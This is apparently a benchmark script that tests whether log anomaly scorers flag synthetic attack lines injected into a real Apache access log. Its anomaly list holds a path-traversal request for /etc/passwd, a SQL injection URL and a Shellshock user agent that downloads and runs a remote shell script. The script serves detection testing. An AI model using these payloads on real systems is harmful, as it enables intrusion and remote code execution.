"""``inspect events`` on a real log with injected anomalies: are the injected events flagged?

The log is the Apache access log (combined format, hostnames anonymised) that Debian's
``logstalgia`` package ships as its demo input, ``/usr/share/logstalgia/example.log``. The
first ``--lines`` lines are taken, ``len(ANOMALIES)`` anomalous events are inserted at seeded
positions after the first 10%, and both scorers rank every event: the LM (mean and total
surprisal of an event given all events before it, SmolLM2) and the model-free baseline
(rarity of the event's template after masking numbers, IDs, hex, paths and host names).
Reported: precision@k of each ranking for the injected events (k = number injected and 2x;
tied scores are counted at their expected value under a random order), the rank of every
injected event, the default robust-z flags, the rank agreement of the two scorers (Spearman),
and what dropping the low-surprise events would save. Writes JSON + Markdown + PNG to
``benchmarks/results/inspect-events/``, plus the pictures of the README's Inspect section.

    .venv/bin/python benchmarks/inspect_events.py [--lines 1000] [--seed 0]
    .venv/bin/python benchmarks/inspect_events.py --log path/to/example.log   # a local copy
"""

from __future__ import annotations

import os

os.environ.setdefault("OMP_WAIT_POLICY", "passive")  # before torch is imported

import argparse
import hashlib
import json
import platform
import random
import shutil
import subprocess
import time
from datetime import datetime
from pathlib import Path

import numpy as np
import torch

from tokensieve.bench.data import data_dir
from tokensieve.inspect import events, surprise
from tokensieve.inspect.events import EventsResult, spearman, template_rarity

OUT = Path(__file__).parent / "results" / "inspect-events"
PACKAGE, VERSION = "logstalgia", "1.1.4-1"
MEMBER = "./usr/share/logstalgia/example.log"
LOG_SHA256 = "453a70f1f82b07b963f2cd8380aa3d61d2e72ec7af1d738f3c9aa642f32b0ea1"

# Anomalies written in the log's own format where they could occur in it (an attack is still
# an access line), plus one line of another log (the error log) mixed in. {host} and {ts}
# are filled from the line before the insertion point, so time stays in order.
ANOMALIES = [
    ("path traversal",
     '203.0.113.45 - - [{ts}] "GET /gallery.php?section=../../../../etc/passwd%00 HTTP/1.1" '
     '200 1873 "-" "curl/7.19.4 (x86_64-pc-linux-gnu) libcurl/7.19.4 OpenSSL/0.9.8k" "-"'),
    ("SQL injection",
     "198.51.100.23 - - [{ts}] \"GET /latest.php?category=national'%20UNION%20SELECT%20"
     'username,password%20FROM%20users-- HTTP/1.1" 500 612 "-" '
     '"sqlmap/0.7 (http://sqlmap.sourceforge.net)" "-"'),
    ("shell in user agent",
     '{host} - - [{ts}] "GET /cgi-bin/status HTTP/1.1" 200 4411 "-" "() {{ :; }}; /bin/bash -c '
     '\\"wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh\\"" "-"'),
    ("error-log line",
     "[Wed Apr 22 19:31:07 2009] [error] [client 192.0.2.14] PHP Fatal error:  Allowed memory "
     "size of 134217728 bytes exhausted (tried to allocate 72 bytes) in /var/www/gallery.php "
     "on line 812"),
    ("database dump download",
     '{host} - - [{ts}] "GET /admin/backup/site-db-2009-04-21.sql.gz HTTP/1.1" 200 734003200 '
     '"-" "Wget/1.11.4" "-"'),
]


def fetch_log() -> Path:
    """example.log from Debian's logstalgia package (apt-get download + dpkg-deb), once."""
    folder = data_dir() / "logstalgia"
    log = folder / "example.log"
    if log.is_file() and _sha256(log) == LOG_SHA256:
        return log
    folder.mkdir(parents=True, exist_ok=True)
    debs = sorted(folder.glob(f"{PACKAGE}_*.deb"))
    if not debs:
        if not shutil.which("apt-get"):
            raise SystemExit("apt-get is not available: download logstalgia's .deb by hand and "
                             f"pass --log with {MEMBER} extracted from it.")
        run = subprocess.run(["apt-get", "download", f"{PACKAGE}={VERSION}"], cwd=folder,
                             capture_output=True, text=True)
        debs = sorted(folder.glob(f"{PACKAGE}_*.deb"))
        if run.returncode or not debs:
            raise SystemExit(f"apt-get download {PACKAGE}={VERSION} failed "
                             f"({run.stderr.strip().splitlines()[-1:]}); run apt-get update.")
    data = subprocess.run(["dpkg-deb", "--fsys-tarfile", str(debs[-1])], capture_output=True,
                          check=True).stdout
    content = subprocess.run(["tar", "-xO", MEMBER], input=data, capture_output=True,
                             check=True).stdout
    if hashlib.sha256(content).hexdigest() != LOG_SHA256:
        raise SystemExit(f"{MEMBER} in {debs[-1].name} is not the pinned file (sha256 differs).")
    log.write_bytes(content)
    return log


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def iso_time(line: str) -> str | None:
    """The access-log timestamp ``[22/Apr/2009:18:52:51 +1200]`` as ISO 8601."""
    a, b = line.find("["), line.find("]")
    try:
        return datetime.strptime(line[a + 1 : b], "%d/%b/%Y:%H:%M:%S %z").isoformat()
    except ValueError:
        return None


def build(lines: list[str], seed: int) -> tuple[list[dict], list[int]]:
    """Records with the anomalies inserted at seeded positions; returns (records, positions)."""
    rng = random.Random(seed)
    n = len(lines)
    slots = sorted(rng.sample(range(n // 10, n), len(ANOMALIES)))
    out, injected = [], []
    k = 0
    for i, line in enumerate(lines):
        while k < len(ANOMALIES) and slots[k] == i:
            prev = out[-1]["text"]
            ts = prev[prev.find("[") + 1 : prev.find("]")]
            text = ANOMALIES[k][1].format(host=prev.split(" ", 1)[0], ts=ts)
            injected.append(len(out))
            out.append({"text": text, "time": out[-1]["time"], "kind": ANOMALIES[k][0]})
            k += 1
        out.append({"text": line, "time": iso_time(line)})
    return out, injected


def precision_at_k(scores: np.ndarray, positives: set[int], k: int) -> float:
    """Share of positives among the k highest scores; events tied at the cut-off count at
    their expected value when the tie is ordered at random."""
    scores = np.asarray(scores, dtype=float)
    cut = np.sort(scores)[::-1][k - 1]
    above = np.flatnonzero(scores > cut)
    tied = np.flatnonzero(scores == cut)
    hits = sum(1 for i in above if i in positives)
    tied_pos = sum(1 for i in tied if i in positives)
    take = k - len(above)
    return (hits + take * tied_pos / len(tied)) / k


def ranks_of(scores: np.ndarray, idx: list[int]) -> list[float]:
    """1-based rank of each index from the top, ties at their mean rank."""
    scores = np.asarray(scores, dtype=float)
    out = []
    for i in idx:
        higher = int((scores > scores[i]).sum())
        same = int((scores == scores[i]).sum())
        out.append(higher + (same + 1) / 2)
    return out


def pictures(out: Path) -> dict:
    """The README's pictures of ``surprise``: PNG, HTML and the terminal view (SVG)."""
    from rich.console import Console

    paragraphs = (Path(__file__).parent.parent / "examples" / "report.txt").read_text()
    text = next(p for p in paragraphs.split("\n\n") if p.startswith("Q3 revenue"))
    r = surprise(text, question="What was the Q3 revenue?", progress=False)
    r.to_png(out / "surprise.png")
    r.to_html(out / "surprise.html")
    console = Console(record=True, width=100, file=open(os.devnull, "w"))  # noqa: SIM115
    console.print(r.rich())
    console.save_svg(str(out / "surprise-terminal.svg"), title="tokensieve inspect surprise")
    return {"text_tokens": len(r.tokens), "total_nats": r.total}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--log", help="a local copy of logstalgia's example.log")
    parser.add_argument("--threads", type=int, default=1)
    parser.add_argument("--out", default=str(OUT))
    parser.add_argument("--report-only", action="store_true",
                        help="re-draw the report and pictures from the last run's scores")
    args = parser.parse_args(argv)
    torch.set_num_threads(args.threads)
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)

    log = Path(args.log) if args.log else fetch_log()
    lines = [x for x in log.read_text(encoding="utf-8").splitlines() if x.strip()][: args.lines]
    records, injected = build(lines, args.seed)
    positives = set(injected)

    scored = out / "events-scored.json"
    if args.report_only:  # re-draw from the last run's scores
        result = EventsResult.from_dict(json.loads(scored.read_text()))
        seconds = json.loads((out / "results.json").read_text())["seconds"]
        # the baseline is cheap: recompute it with the current masks
        temps, rarity = template_rarity([e.text for e in result.events])
        for e, t, r in zip(result.events, temps, rarity, strict=True):
            e.template, e.rarity = t, float(r)
        result.templates = len(set(temps))
        result.spearman = spearman(result.scores(), rarity)
        result.to_json(scored)
    else:
        t0 = time.perf_counter()
        result = events([{"text": r["text"], "time": r["time"]} for r in records])
        seconds = time.perf_counter() - t0
        result.to_json(scored)
    n_inj = len(injected)
    # the warm-up events (no history: the first one) are not ranked by the LM
    warm = np.array([e.warmup for e in result.events])
    scorers = {"LM mean (default)": np.where(warm, -np.inf, result.scores("mean")),
               "LM total": np.where(warm, -np.inf, result.scores("total")),
               "template rarity": result.scores("rarity")}
    rows = []
    for name, s in scorers.items():
        rows.append({
            "scorer": name,
            f"precision@{n_inj}": precision_at_k(s, positives, n_inj),
            f"precision@{2 * n_inj}": precision_at_k(s, positives, 2 * n_inj),
            "ranks of injected": ranks_of(s, injected),
        })
    rows.append({"scorer": "random (expected)", f"precision@{n_inj}": n_inj / len(records),
                 f"precision@{2 * n_inj}": n_inj / len(records), "ranks of injected": []})
    flagged = set(result.flagged)
    summary = {
        "log": {"package": f"Debian {PACKAGE} {VERSION}", "file": MEMBER.lstrip("."),
                "sha256": LOG_SHA256, "lines_used": len(lines),
                "events": len(records), "tokens": int(sum(e.tokens for e in result.events))},
        "model": result.model,
        "injected": [{"position": p, "kind": records[p]["kind"], "text": records[p]["text"]}
                     for p in injected],
        "scorers": rows,
        "default_flags": {"rule": result.rule, "flagged": len(flagged),
                          "injected_flagged": len(flagged & positives),
                          "precision": len(flagged & positives) / len(flagged) if flagged
                          else float("nan"),
                          "recall": len(flagged & positives) / n_inj},
        "spearman_lm_mean_vs_rarity": result.spearman,
        "spearman_lm_total_vs_rarity": spearman(result.scores("total"),
                                                result.scores("rarity")),
        "safe_to_drop": {"events": len(result.safe_to_drop), "drop_below": result.drop_below,
                         "saved_events": result.saved_events,
                         "saved_tokens": result.saved_tokens,
                         "injected_dropped": len(set(result.safe_to_drop) & positives)},
        "templates": result.templates,
        "seconds": round(seconds, 1),
        "machine": f"{platform.machine()}, torch {torch.__version__}, {args.threads} thread(s)",
        "seed": args.seed,
    }
    top = [{"rank": k + 1, "index": i, "injected": i in positives,
            "mean": result.events[i].mean, "text": result.events[i].text[:160]}
           for k, i in enumerate(result.ranking("mean")[:15])]
    summary["top15_lm_mean"] = top
    (out / "results.json").write_text(json.dumps(summary, indent=2) + "\n")
    result.to_png(out / "events.png", mark=injected,
                  title=f"{len(records)} events of logstalgia's example.log, {n_inj} injected "
                        "(ringed)")
    summary["pictures"] = pictures(out)
    (out / "README.md").write_text(markdown(summary))
    print(markdown(summary))
    return 0


def markdown(s: dict) -> str:
    n = len(s["injected"])
    lines = [
        "# `inspect events` on a real log with injected anomalies",
        "",
        f"Log: `{s['log']['file']}` from the {s['log']['package']} package (an Apache access "
        f"log in combined format, hostnames anonymised), first {s['log']['lines_used']} "
        f"lines; {n} anomalous events inserted at seeded positions (seed {s['seed']}): "
        f"{s['log']['events']} events, {s['log']['tokens']} tokens, scored by {s['model']} "
        f"in {s['seconds']} s ({s['machine']}).",
        "",
        f"| scorer | precision@{n} | precision@{2 * n} | ranks of the injected events |",
        "|---|---|---|---|",
    ]
    for r in s["scorers"]:
        ranks = ", ".join(f"{x:g}" for x in r["ranks of injected"]) or "—"
        lines.append(f"| {r['scorer']} | {r[f'precision@{n}']:.3g} | "
                     f"{r[f'precision@{2 * n}']:.3g} | {ranks} |")
    d, f = s["safe_to_drop"], s["default_flags"]
    lines += [
        "",
        "Injected: " + "; ".join(f"{i['kind']} (event {i['position']})" for i in s["injected"])
        + ". Ties (template rarity: every template seen once has the same score) count at "
        "their expected value under a random order.",
        "",
        f"- Default flags ({f['rule']}): {f['flagged']} events flagged, {f['injected_flagged']} "
        f"of the {n} injected (precision {f['precision']:.2f}, recall {f['recall']:.2f}).",
        f"- Rank agreement of the LM score and the template rarity: Spearman "
        f"{s['spearman_lm_mean_vs_rarity']:.2f} (mean), {s['spearman_lm_total_vs_rarity']:.2f} "
        f"(total); {s['templates']} distinct templates.",
        f"- Safe to drop (mean < {d['drop_below']:g} nats/token): {d['events']} events, "
        f"{d['saved_events']:.0%} of events and {d['saved_tokens']:.0%} of tokens; injected "
        f"among them: {d['injected_dropped']}.",
        "",
        "![event scores](events.png)",
        "",
        "Top 15 events by LM mean surprisal:",
        "",
        "| rank | event | injected | nats/token | text |",
        "|---|---|---|---|---|",
    ]
    for t in s["top15_lm_mean"]:
        text = t["text"].replace("|", "\\|")
        lines.append(f"| {t['rank']} | {t['index']} | {'yes' if t['injected'] else ''} | "
                     f"{t['mean']:.2f} | `{text}` |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    raise SystemExit(main())
